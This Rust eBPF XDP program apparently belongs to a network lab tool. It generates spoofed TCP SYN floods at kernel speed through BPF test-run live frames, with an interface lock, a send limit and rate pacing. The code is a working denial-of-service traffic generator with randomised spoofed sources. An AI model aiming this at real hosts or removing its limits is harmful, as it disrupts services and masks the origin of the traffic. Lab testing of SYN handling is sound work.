//! `flood`: one spoofed SYN per run. BPF_PROG_TEST_RUN in live-frames mode runs it over
//! and over on a template frame and sends what it returns XDP_TX out of the interface the
//! caller's `xdp_md` names, so the kernel moves hundreds of thousands of SYNs per second
//! with no socket and no copy to user space. A run that is ahead of its schedule, or past
//! its limit, returns XDP_DROP: nothing is sent.

use aya_ebpf::{
    bindings::xdp_action,
    helpers::generated::{bpf_get_prandom_u32, bpf_ktime_get_ns},
    macros::{map, xdp},
    maps::Array,
    programs::XdpContext,
};
use handshake_common::flood::{
    FRAME_LEN, FloodConfig, MAX_LAG_NS, STATE_NEXT_DUE_NS, STATE_SENT, Spoof, stamp,
};

use crate::program::ptr_at;

#[map(name = "FLOOD_CONFIG")]
static FLOOD_CONFIG: Array<FloodConfig> = Array::with_max_entries(1, 0);

/// SYNs sent so far and when the next one is due. Not per-CPU on purpose: one thread
/// drives the generator, and the limit must hold for the run as a whole.
#[map(name = "FLOOD_STATE")]
static FLOOD_STATE: Array<u64> = Array::with_max_entries(2, 0);

#[xdp]
pub fn flood(ctx: XdpContext) -> u32 {
    let Some(config) = FLOOD_CONFIG.get(0) else {
        return xdp_action::XDP_DROP;
    };
    // The lab checked the interface before it configured us; checking again here means no
    // caller can point the generator at another one, whatever it passes in `xdp_md`.
    let ingress = unsafe { (*ctx.ctx).ingress_ifindex };
    if config.ifindex == 0 || ingress != config.ifindex {
        return xdp_action::XDP_DROP;
    }
    let (Some(sent), Some(next_due)) = (
        FLOOD_STATE.get_ptr_mut(STATE_SENT),
        FLOOD_STATE.get_ptr_mut(STATE_NEXT_DUE_NS),
    ) else {
        return xdp_action::XDP_DROP;
    };
    if unsafe { *sent } >= config.limit {
        return xdp_action::XDP_DROP;
    }
    if config.interval_ns != 0 {
        let now = unsafe { bpf_ktime_get_ns() };
        let due = unsafe { *next_due };
        if now < due {
            return xdp_action::XDP_DROP;
        }
        let due = if due + MAX_LAG_NS < now { now } else { due };
        unsafe { *next_due = due + config.interval_ns };
    }
    let Some(frame) = ptr_at::<[u8; FRAME_LEN]>(&ctx, 0) else {
        return xdp_action::XDP_DROP;
    };
    let spoof = unsafe { Spoof::from_random(bpf_get_prandom_u32(), bpf_get_prandom_u32()) };
    stamp(unsafe { &mut *frame }, config, &spoof);
    unsafe { *sent += 1 };
    xdp_action::XDP_TX
}
